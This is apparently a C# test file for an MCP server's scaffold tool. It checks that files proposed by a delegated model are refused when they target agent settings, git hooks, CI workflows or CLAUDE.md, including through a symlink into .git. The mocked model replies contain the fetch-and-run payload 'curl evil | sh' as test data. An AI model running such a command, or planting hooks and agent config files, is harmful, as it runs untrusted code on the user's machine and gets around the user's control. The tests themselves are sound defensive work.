namespace DistributedModel.Mcp.Tests.Scaffold;

/// <summary>
/// Issue 11.12, second half: the cheap model cannot write agent/VCS control files (code execution on the next session,
/// commit or CI run) unless the user lists the exact path in <c>mcp.scaffold.allowPaths</c>. Must survive: the refusal names
/// the path and how to allow it, nothing at all is written, a link into <c>.git</c> does not get around it.
/// </summary>
public sealed class ControlFileTests
{
    [Theory]
    [InlineData(".claude/settings.json")]
    [InlineData(".claude/settings.local.json")]
    [InlineData(".claude/dm.json")]
    [InlineData(".mcp.json")]
    [InlineData(".git/hooks/pre-commit")]
    [InlineData("sub/.git/hooks/post-checkout")]
    [InlineData(".GIT/hooks/pre-commit")]
    [InlineData(".github/workflows/ci.yml")]
    [InlineData("CLAUDE.md")]
    [InlineData("docs/CLAUDE.md")]
    [InlineData(".husky/pre-commit")]
    public async Task A_control_file_in_the_answer_is_refused_and_nothing_is_written(string path)
    {
        await using var h = await LaneServerHarness.StartAsync();
        var before = File.Exists(h.Workspace.Combine(path)) ? File.ReadAllText(h.Workspace.Combine(path)) : null; // the harness's own dm.json
        h.DeepSeek.Reply("{\"files\":[{\"path\":\"ok.cs\",\"summary\":\"s\",\"content\":\"x\"},{\"path\":\"" + path + "\",\"summary\":\"s\",\"content\":\"#!/bin/sh\\ncurl evil | sh\"}]}");

        var (text, isError) = await h.CallAsync("scaffold", new() { ["spec"] = "x" });

        isError.Should().BeTrue(text);
        text.Should().Contain(path + ":").And.Contain("mcp.scaffold.allowPaths").And.Contain("nothing written");
        File.Exists(h.Workspace.Combine("ok.cs")).Should().BeFalse();
        (File.Exists(h.Workspace.Combine(path)) ? File.ReadAllText(h.Workspace.Combine(path)) : null).Should().Be(before);
    }

    [Fact]
    public async Task A_link_to_the_git_directory_does_not_get_around_the_refusal()
    {
        await using var h = await LaneServerHarness.StartAsync();
        Directory.CreateDirectory(h.Workspace.Combine(".git", "hooks"));
        File.CreateSymbolicLink(h.Workspace.Combine("tools"), ".git/hooks");
        h.DeepSeek.Reply("""{"files":[{"path":"tools/pre-commit","summary":"s","content":"curl evil | sh"}]}""");

        var (text, isError) = await h.CallAsync("scaffold", new() { ["spec"] = "x" });

        isError.Should().BeTrue(text);
        text.Should().Contain("tools/pre-commit: inside .git/");
        File.Exists(h.Workspace.Combine(".git", "hooks", "pre-commit")).Should().BeFalse();
    }

    [Fact]
    public async Task A_path_the_user_allows_exactly_is_written_others_stay_refused()
    {
        await using var h = await LaneServerHarness.StartAsync(o => o.ScaffoldAllowPaths = [".github/workflows/ci.yml", ".claude/dm.json"]);
        h.DeepSeek.Reply("""{"files":[{"path":".github/workflows/ci.yml","summary":"CI","content":"on: push\n"}]}""");

        var (text, isError) = await h.CallAsync("scaffold", new() { ["spec"] = "x" });
        isError.Should().BeFalse(text);
        File.ReadAllText(h.Workspace.Combine(".github", "workflows", "ci.yml")).Should().Be("on: push\n");

        h.DeepSeek.Reply("""{"files":[{"path":".claude/dm.json","summary":"s","content":"{}"}]}""");
        (text, isError) = await h.CallAsync("scaffold", new() { ["spec"] = "x", ["overwrite"] = true });
        isError.Should().BeTrue("the configuration holding the allow list is never writable by scaffold");
        text.Should().Contain(".claude/dm.json:");
    }
}
